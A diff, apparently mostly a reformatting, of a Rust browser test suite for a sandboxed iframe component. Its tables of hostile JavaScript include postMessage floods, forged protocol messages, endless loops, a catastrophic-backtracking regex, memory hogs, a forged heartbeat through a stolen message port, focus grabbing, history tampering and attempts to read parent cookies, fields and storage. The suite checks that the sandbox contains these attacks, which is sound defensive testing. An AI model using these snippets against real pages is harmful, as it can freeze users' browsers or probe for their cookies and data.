-    ("shape-port", "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, JSON.stringify({ type: 'error', message: {}, line: -1, column: 'x' })) }", "can't be understood"),
-    ("unknown-port", "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, JSON.stringify({ type: 'navigate', to: '/logout' })) }", "can't be understood"),
-    ("flood-window", "for (let i = 0; i < 200000; i++) parent.postMessage(i, '*')", "too much at once"),
-    ("graph-window", "const much = []; for (let i = 0; i < 300000; i++) much.push({ i, in: { i } }); for (let i = 0; i < 60; i++) parent.postMessage(much, '*')", "too much at once"),
+    (
+        "flood-port",
+        "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...all) { for (let i = 0; i < 100000; i++) post.apply(this, all); return post.apply(this, all) }",
+        "too much at once",
+    ),
+    (
+        "large-port",
+        "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, JSON.stringify({ type: 'console', lines: [], more: 'x'.repeat(5000) })) }",
+        "too long",
+    ),
+    (
+        "graph-port",
+        "const post = MessagePort.prototype.postMessage; const much = []; for (let i = 0; i < 500000; i++) much.push({ i, in: { i } }); MessagePort.prototype.postMessage = function () { post.call(this, much) }",
+        "said something",
+    ),
+    (
+        "shape-port",
+        "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, JSON.stringify({ type: 'error', message: {}, line: -1, column: 'x' })) }",
+        "can't be understood",
+    ),
+    (
+        "unknown-port",
+        "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, JSON.stringify({ type: 'navigate', to: '/logout' })) }",
+        "can't be understood",
+    ),
+    (
+        "flood-window",
+        "for (let i = 0; i < 200000; i++) parent.postMessage(i, '*')",
+        "too much at once",
+    ),
+    (
+        "graph-window",
+        "const much = []; for (let i = 0; i < 300000; i++) much.push({ i, in: { i } }); for (let i = 0; i < 60; i++) parent.postMessage(much, '*')",
+        "too much at once",
+    ),
     ("leaves", "location.reload()", "somewhere else"),
-    ("leaves-for-a-frame", "location = document.URL.replace(/frame.*/, 'frame/example/flock')", "somewhere else"),
-    ("grabs-the-keyboard", "const field = add('input'); setInterval(() => field.focus(), 20); setInterval(() => { window.focus(); field.focus() }, 33)", "keyboard"),
+    (
+        "leaves-for-a-frame",
+        "location = document.URL.replace(/frame.*/, 'frame/example/flock')",
+        "somewhere else",
+    ),
+    (
+        "grabs-the-keyboard",
+        "const field = add('input'); setInterval(() => field.focus(), 20); setInterval(() => { window.focus(); field.focus() }, 33)",
+        "keyboard",
+    ),
 ];
 
 /// Attacks that freeze their frame.
 const FROZEN: &[(&str, &str)] = &[
-    ("endless-loop-unguarded", "const s = document.createElement('script'); s.textContent = 'while (true);'; document.body.append(s)"),
-    ("endless-recursion-of-promises", "const again = () => Promise.resolve().then(again); again()"),
+    (
+        "endless-loop-unguarded",
+        "const s = document.createElement('script'); s.textContent = 'while (true);'; document.body.append(s)",
+    ),
+    (
+        "endless-recursion-of-promises",
+        "const again = () => Promise.resolve().then(again); again()",
+    ),
     ("endless-expression", "/^(a+)+$/.test('a'.repeat(60) + 'b')"),
-    ("endless-frames", "const turn = () => { const s = document.createElement('script'); s.textContent = 'for (const end = performance.now() + 4000; performance.now() < end;);'; document.body.append(s); requestAnimationFrame(turn) }; turn()"),
-    ("guard-undone", "Object.defineProperty(performance, 'now', { value: () => 0 }); Date.now = () => 0; neoLoop = () => {}; const s = document.createElement('script'); s.textContent = 'for (;;);'; document.body.append(s)"),
-    ("endless-getter", "const odd = { get [Symbol.toPrimitive]() { const s = document.createElement('script'); s.textContent = 'do ; while (true)'; document.body.append(s) } }; `${odd}`"),
-    ("blocking-storm", "const s = document.createElement('script'); s.textContent = 'let all = []; for (;;) { all.push(document.createElement(\"div\")); document.body.append(all.at(-1)) }'; document.body.append(s)"),
-    ("forged-heartbeat", "const post = MessagePort.prototype.postMessage; let stolen; MessagePort.prototype.postMessage = function (...all) { stolen = this; return post.apply(this, all) }; nextTry = setTimeout(() => { const inner = add('iframe', { srcdoc: '<script>onmessage = ({ ports }) => setInterval(() => ports[0].postMessage(JSON.stringify({ type: \"beat\", frames: 60 })), 400)<\\/script>' }); setTimeout(() => { tryTo(() => inner.contentWindow.postMessage('take', '*', [stolen])); const s = document.createElement('script'); s.textContent = 'while (true);'; document.body.append(s) }, 300) }, 700)"),
+    (
+        "endless-frames",
+        "const turn = () => { const s = document.createElement('script'); s.textContent = 'for (const end = performance.now() + 4000; performance.now() < end;);'; document.body.append(s); requestAnimationFrame(turn) }; turn()",
+    ),
+    (
+        "guard-undone",
+        "Object.defineProperty(performance, 'now', { value: () => 0 }); Date.now = () => 0; neoLoop = () => {}; const s = document.createElement('script'); s.textContent = 'for (;;);'; document.body.append(s)",
+    ),
+    (
+        "endless-getter",
+        "const odd = { get [Symbol.toPrimitive]() { const s = document.createElement('script'); s.textContent = 'do ; while (true)'; document.body.append(s) } }; `${odd}`",
+    ),
+    (
+        "blocking-storm",
+        "const s = document.createElement('script'); s.textContent = 'let all = []; for (;;) { all.push(document.createElement(\"div\")); document.body.append(all.at(-1)) }'; document.body.append(s)",
+    ),
+    (
+        "forged-heartbeat",
+        "const post = MessagePort.prototype.postMessage; let stolen; MessagePort.prototype.postMessage = function (...all) { stolen = this; return post.apply(this, all) }; nextTry = setTimeout(() => { const inner = add('iframe', { srcdoc: '<script>onmessage = ({ ports }) => setInterval(() => ports[0].postMessage(JSON.stringify({ type: \"beat\", frames: 60 })), 400)<\\/script>' }); setTimeout(() => { tryTo(() => inner.contentWindow.postMessage('take', '*', [stolen])); const s = document.createElement('script'); s.textContent = 'while (true);'; document.body.append(s) }, 300) }, 700)",
+    ),
 ];
 
 /// What must be denied without anything being reached: each says `denied` for every attempt that got nowhere, and else what it got.
 const DENIED: &[(&str, &str)] = &[
     ("parent-document", "top.document.cookie"),
     ("parent-field", "parent.document.querySelector('textarea').value"),
-    ("parent-frames", "parent.frames[0] === window ? parent.frames[1].document : parent.frames[0].document"),
+    (
+        "parent-frames",
+        "parent.frames[0] === window ? parent.frames[1].document : parent.frames[0].document",
+    ),
     ("parent-storage", "parent.localStorage.length"),
     ("own-cookie", "document.cookie = 'a=b'; document.cookie"),
     ("own-local-storage", "localStorage.setItem('a', 'b')"),
@@ -277,7 +522,10 @@ const DENIED: &[(&str, &str)] = &[
     ("own-locks", "navigator.locks.query"),
     ("evaluate", "eval('1')"),
     ("function", "new Function('return 1')()"),
-    ("dialogs", "if (prompt('a') !== null || confirm('b')) 'asked'; else throw 0"),
+    (
+        "dialogs",
+        "if (prompt('a') !== null || confirm('b')) 'asked'; else throw 0",
+    ),
     ("popup", "const w = open('about:blank'); if (!w) throw 0; 'opened'"),
     ("fullscreen", "if (!document.fullscreenEnabled) throw 0; 'may'"),
 ];
@@ -288,8 +536,17 @@ fn no_road_leads_out_of_a_frame() {
     let page = stage.page();
     // The canary hears, and the log tells, when there is something to hear.
     let control = stage.browser.page();
-    control.allow("").goto(&format!("http://control.{ZONE}:{}/", stage.canary.port));
-    eventually("the canary hears the control", || stage.canary.heard().iter().any(|heard| heard.contains("GET /")).then_some(()));
+    control
+        .allow("")
+        .goto(&format!("http://control.{ZONE}:{}/", stage.canary.port));
+    eventually("the canary hears the control", || {
+        stage
+            .canary
+            .heard()
+            .iter()
+            .any(|heard| heard.contains("GET /"))
+            .then_some(())
+    });
     let before = stage.canary.heard().len();
     page.allow("");
     page.focus("#typed").type_text("the text around ");
@@ -297,7 +554,9 @@ fn no_road_leads_out_of_a_frame() {
     for (name, attack) in ROADS {
         stage.start(&page, name, attack);
         // What goes out goes out within a moment; those that take longer are heard at the end.
-        page.wait_until(&format!("performance.now() - heard.find(one => one.text === 'begun {name}').at > 900"));
+        page.wait_until(&format!(
+            "performance.now() - heard.find(one => one.text === 'begun {name}').at > 900"
+        ));
         let heard = stage.canary.heard();
         if heard.len() > before {
             wrong.push(format!("{name}: {:?}", &heard[before..]));
@@ -306,13 +565,21 @@ fn no_road_leads_out_of_a_frame() {
             wrong.push(format!("{name}: it led the page around elsewhere"));
             stage.open(&page);
         }
-        if page.eval("document.querySelectorAll('neo-frame iframe').length").as_i64() > Some(1) {
+        if page
+            .eval("document.querySelectorAll('neo-frame iframe').length")
+            .as_i64()
+            > Some(1)
+        {
             wrong.push(format!("{name}: there are more frames than one"));
         }
         page.eval("document.querySelector('neo-frame').stop()");
     }
     assert_eq!(page.value("#typed"), "the text around ");
-    assert!(held_up(&page) <= HELD_UP_MOST, "the page was held up for {} ms", held_up(&page));
+    assert!(
+        held_up(&page) <= HELD_UP_MOST,
+        "the page was held up for {} ms",
+        held_up(&page)
+    );
     assert_eq!(page.dialogs(), Vec::<String>::new());
     drop((page, control));
     let canary = stage.canary.heard.clone();
@@ -320,7 +587,11 @@ fn no_road_leads_out_of_a_frame() {
     assert!(wrong.is_empty(), "{wrong:#?}");
     let heard = canary.lock().expect("nobody panicked").clone();
     assert_eq!(&heard[before..], &[] as &[String], "the canary heard something late");
-    assert_eq!(names, ["control"], "the browser looked names up, or connected, for these");
+    assert_eq!(
+        names,
+        ["control"],
+        "the browser looked names up, or connected, for these"
+    );
 }
 
 #[test]
@@ -338,11 +609,20 @@ fn a_frame_that_does_not_keep_to_the_protocol_is_taken_away() {
         assert!(why.contains(says), "{name}: {why}");
         assert!(!page.has("neo-frame iframe"), "{name}: it is still there");
         // Typing goes on where it was.
-        assert_eq!(page.eval("document.activeElement.id"), "typed", "{name}: the focus is elsewhere");
+        assert_eq!(
+            page.eval("document.activeElement.id"),
+            "typed",
+            "{name}: the focus is elsewhere"
+        );
         page.type_text("and on");
         assert_eq!(page.value("#typed"), "kept and on", "{name}");
-        let held = page.eval(&format!("Math.max(0, ...held.filter(({{ startTime }}) => startTime > {from}).map(({{ duration }}) => duration))"));
-        assert!(held.as_f64() <= Some(HELD_UP_MOST), "{name}: the page was held up for {held} ms");
+        let held = page.eval(&format!(
+            "Math.max(0, ...held.filter(({{ startTime }}) => startTime > {from}).map(({{ duration }}) => duration))"
+        ));
+        assert!(
+            held.as_f64() <= Some(HELD_UP_MOST),
+            "{name}: the page was held up for {held} ms"
+        );
         assert_eq!(page.eval("location.href === window.marked"), true, "{name}");
     }
 }
@@ -364,20 +644,37 @@ fn a_frozen_frame_is_gone_within_four_seconds_and_the_page_around_never_stops() 
             page.type_text("x");
             typed.push('x');
             assert_eq!(page.value("#typed"), typed, "{name}");
-            assert!(begun.elapsed() < GONE_WITHIN + Duration::from_secs(4), "{name}: it is still there");
+            assert!(
+                begun.elapsed() < GONE_WITHIN + Duration::from_secs(4),
+                "{name}: it is still there"
+            );
             page.eval("new Promise((done) => setTimeout(done, 100))");
         }
         let (froze, ended) = (
-            page.eval("heard.findLast(one => one.what === 'beat' || one.what === 'console').at").as_f64().expect("a number"),
-            page.eval("heard.find(one => one.what === 'state' && one.state === 'ended').at").as_f64().expect("a number"),
+            page.eval("heard.findLast(one => one.what === 'beat' || one.what === 'console').at")
+                .as_f64()
+                .expect("a number"),
+            page.eval("heard.find(one => one.what === 'state' && one.state === 'ended').at")
+                .as_f64()
+                .expect("a number"),
         );
-        assert!(ended - froze <= GONE_WITHIN.as_millis() as f64, "{name}: gone {} ms after its last word", ended - froze);
+        assert!(
+            ended - froze <= GONE_WITHIN.as_millis() as f64,
+            "{name}: gone {} ms after its last word",
+            ended - froze
+        );
         assert!(page.text("neo-frame [data-why]").contains("froze"), "{name}");
         assert!(!page.has("neo-frame iframe"), "{name}");
-        let held = page.eval(&format!("Math.max(0, ...held.filter(({{ startTime }}) => startTime > {from}).map(({{ duration }}) => duration))"));
-        assert!(held.as_f64() <= Some(HELD_UP_MOST), "{name}: the page was held up for {held} ms");
+        let held = page.eval(&format!(
+            "Math.max(0, ...held.filter(({{ startTime }}) => startTime > {from}).map(({{ duration }}) => duration))"
+        ));
+        assert!(
+            held.as_f64() <= Some(HELD_UP_MOST),
+            "{name}: the page was held up for {held} ms"
+        );
         // And it is remembered.
-        page.click("neo-frame [data-run]").wait_for("neo-frame [data-why] \"did not end well\"");
+        page.click("neo-frame [data-run]")
+            .wait_for("neo-frame [data-why] \"did not end well\"");
     }
 }
 
@@ -388,14 +685,24 @@ fn a_frame_that_eats_memory_dies_alone() {
     page.allow("");
     page.focus("#typed").type_text("still here");
     for (name, attack) in [
-        ("hog-objects", "const all = []; const s = document.createElement('script'); globalThis.all = all; s.textContent = 'for (;;) all.push(new Array(1e5).fill(0).map((_, i) => ({ i })))'; document.body.append(s)"),
-        ("hog-text", "let text = 'x'; const all = []; setInterval(() => { for (let i = 0; i < 200; i++) all.push((text += 'y').repeat(1e5).split('')) }, 0)"),
+        (
+            "hog-objects",
+            "const all = []; const s = document.createElement('script'); globalThis.all = all; s.textContent = 'for (;;) all.push(new Array(1e5).fill(0).map((_, i) => ({ i })))'; document.body.append(s)",
+        ),
+        (
+            "hog-text",
+            "let text = 'x'; const all = []; setInterval(() => { for (let i = 0; i < 200; i++) all.push((text += 'y').repeat(1e5).split('')) }, 0)",
+        ),
     ] {
         stage.start(&page, name, attack);
         page.wait_until("document.querySelector('neo-frame').state === 'ended'");
         assert!(!page.has("neo-frame iframe"), "{name}");
         assert_eq!(page.value("#typed"), "still here", "{name}");
-        assert!(held_up(&page) <= HELD_UP_MOST, "{name}: the page was held up for {} ms", held_up(&page));
+        assert!(
+            held_up(&page) <= HELD_UP_MOST,
+            "{name}: the page was held up for {} ms",
+            held_up(&page)
+        );
     }
 }
 
@@ -407,10 +714,17 @@ fn a_frame_has_nothing_that_belongs_to_anybody() {
     page.allow("");
     page.eval("document.querySelector('#typed').value = 'a secret'; localStorage.setItem('secret', '1'); document.cookie = 'secret=1'");
     for (name, attempt) in DENIED {
-        let attack = format!("let got; try {{ got = 'got ' + (() => {{ {} }})() }} catch (error) {{ got = 'denied' }}; console.log(got)", returning(attempt));
+        let attack = format!(
+            "let got; try {{ got = 'got ' + (() => {{ {} }})() }} catch (error) {{ got = 'denied' }}; console.log(got)",
+            returning(attempt)
+        );
         stage.start(&page, name, &attack);
-        page.wait_until("heard.some(one => one.what === 'console' && (one.text === 'denied' || one.text.startsWith('got')))");
-        let got = page.eval("heard.find(one => one.what === 'console' && (one.text === 'denied' || one.text.startsWith('got'))).text");
+        page.wait_until(
+            "heard.some(one => one.what === 'console' && (one.text === 'denied' || one.text.startsWith('got')))",
+        );
+        let got = page.eval(
+            "heard.find(one => one.what === 'console' && (one.text === 'denied' || one.text.startsWith('got'))).text",
+        );
         assert_eq!(got, "denied", "{name}");
     }
     assert_eq!(page.dialogs(), Vec::<String>::new());
@@ -435,13 +749,28 @@ fn a_frame_cannot_turn_back_the_page_around_nor_move_it() {
     let length = page.eval("history.length");
     page.eval("document.querySelector('main').style.paddingBlockEnd = '3000px'; scrollTo(0, 0)");
     for (name, attack) in [
-        ("history-back", "history.back(); history.go(-1); history.go(-2); tryTo(() => navigation.back().finished)"),
-        ("history-flood", "for (let i = 0; i < 300; i++) { tryTo(() => history.pushState(i, '')); tryTo(() => { location.hash = 'h' + i }) }"),
-        ("scroll", "add('div', { style: 'height: 4000px' }); const last = add('p'); last.textContent = 'x'; document.documentElement.style.overflow = document.body.style.overflow = 'visible'; last.scrollIntoView({ block: 'start' }); last.tabIndex = 0; location.hash = 'x'"),
+        (
+            "history-back",
+            "history.back(); history.go(-1); history.go(-2); tryTo(() => navigation.back().finished)",
+        ),
+        (
+            "history-flood",
+            "for (let i = 0; i < 300; i++) { tryTo(() => history.pushState(i, '')); tryTo(() => { location.hash = 'h' + i }) }",
+        ),
+        (
+            "scroll",
+            "add('div', { style: 'height: 4000px' }); const last = add('p'); last.textContent = 'x'; document.documentElement.style.overflow = document.body.style.overflow = 'visible'; last.scrollIntoView({ block: 'start' }); last.tabIndex = 0; location.hash = 'x'",
+        ),
     ] {
         stage.start(&page, name, attack);
-        page.wait_until(&format!("performance.now() - heard.find(one => one.text === 'begun {name}').at > 1200"));
-        assert_eq!(page.eval("location.href === window.marked"), true, "{name}: it led the page around elsewhere");
+        page.wait_until(&format!(
+            "performance.now() - heard.find(one => one.text === 'begun {name}').at > 1200"
+        ));
+        assert_eq!(
+            page.eval("location.href === window.marked"),
+            true,
+            "{name}: it led the page around elsewhere"
+        );
         assert_eq!(page.eval("scrollY"), 0, "{name}: it moved the page around");
         page.eval("document.querySelector('neo-frame').stop()");
     }
@@ -449,5 +778,8 @@ fn a_frame_cannot_turn_back_the_page_around_nor_move_it() {
     let after = page.eval("history.length");
     page.eval("history.back()");
     page.wait_for_path("/sandbox");
-    assert!(after.as_i64() <= length.as_i64().map(|n| n + 1), "the way back grew from {length} to {after}");
+    assert!(
+        after.as_i64() <= length.as_i64().map(|n| n + 1),
+        "the way back grew from {length} to {after}"
+    );
 }
